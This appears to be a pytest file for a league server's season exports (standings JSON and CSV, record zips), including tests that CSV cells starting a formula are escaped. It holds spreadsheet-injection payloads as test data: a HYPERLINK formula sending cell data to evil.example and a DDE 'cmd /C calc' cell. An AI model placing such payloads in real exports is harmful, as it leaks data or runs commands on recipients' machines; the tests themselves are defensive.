"""A season's exports through the API, as documented in the OpenAPI document."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest

import engine
from pbem.csv_cells import safe_cell
from pbem.leagues.seasons import start_season
from pbem.services import accounts
from tests.server.leagues.season_play import league_of, play_out
from tests.server.openapi_client import OpenApiClient


@pytest.fixture
def api(app) -> OpenApiClient:
    return OpenApiClient(app.test_client())


def test_standings_and_records_of_a_season(api, session, make_user):
    _, league, (ann, bob) = league_of(session, make_user, ["Ann", "Bob"], points=["3/2", "0"])
    season = start_season(session, league)
    session.commit()
    play_out(session, season.games[0], bob.id)
    token = accounts.issue_api_token(session, ann, "tests")
    session.commit()
    where = {"league_id": league.public_id, "season": 1}
    shown = api.call("getSeasonStandings", token, **where).get_json()
    assert [(r["player"], r["points"], r["played"]) for r in shown["standings"]] == [
        ("Bob", 1.5, 1),  # a number, as the API's tables give it, not "3/2"
        ("Ann", 0, 1),
    ]
    assert shown["finished"] is True
    table = api.call("getSeasonStandingsCsv", token, **where)
    assert table.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(table.get_data(as_text=True))))
    assert [(r["player"], r["points"], r["withdrawn"]) for r in rows] == [
        ("Bob", "1.5", "no"),  # not "3/2", which a spreadsheet reads as a date, nor "False"
        ("Ann", "0", "no"),
    ]
    archive = api.call("getSeasonRecords", token, **where)
    assert archive.mimetype == "application/zip"
    with zipfile.ZipFile(io.BytesIO(archive.get_data())) as opened:
        (name,) = opened.namelist()
        record = engine.Record.loads(opened.read(name).decode())
    bob_seat = next(s.position for s in season.games[0].seats if s.user_id == bob.id)
    assert engine.Game.from_record(record).result().winners == (bob_seat,)
    assert (
        api.call("getSeasonStandings", token, league_id=league.public_id, season=2).status_code
        == 404
    )
    assert api.call("getSeasonRecords", **where).status_code == 401


def test_the_document_gives_each_export_its_content_type(api):
    paths = api.document["paths"]
    base = "/api/v1/leagues/{league_id}/seasons/{season}"
    assert "text/csv" in paths[f"{base}/standings.csv"]["get"]["responses"]["200"]["content"]
    assert "application/zip" in paths[f"{base}/records.zip"]["get"]["responses"]["200"]["content"]
    assert (
        "application/json" in paths[f"{base}/standings.json"]["get"]["responses"]["200"]["content"]
    )


def test_a_name_that_is_a_formula_stays_text_in_the_csv(api, session, make_user):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    _, league, (eve, bob, cem) = league_of(session, make_user, [formula, "Bob", "Cem"])
    bob.name, cem.name = "@SUM(A1)", "-Cem"
    start_season(session, league)
    session.commit()
    token = accounts.issue_api_token(session, eve, "tests")
    session.commit()
    table = api.call("getSeasonStandingsCsv", token, league_id=league.public_id, season=1)
    players = {r["player"] for r in csv.DictReader(io.StringIO(table.get_data(as_text=True)))}
    assert players == {"'" + formula, "'@SUM(A1)", "'-Cem"}


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("\tcmd", "'\tcmd"),
        ("\r=1+1", "'\r=1+1"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-3/2", "-3/2"),  # a score, as the tables write fractions
        ("-1.5", "-1.5"),
        (-2, -2),
        ("Ann = Bob", "Ann = Bob"),
    ],
)
def test_only_cells_that_start_a_formula_are_changed(cell, written):
    assert safe_cell(cell) == written
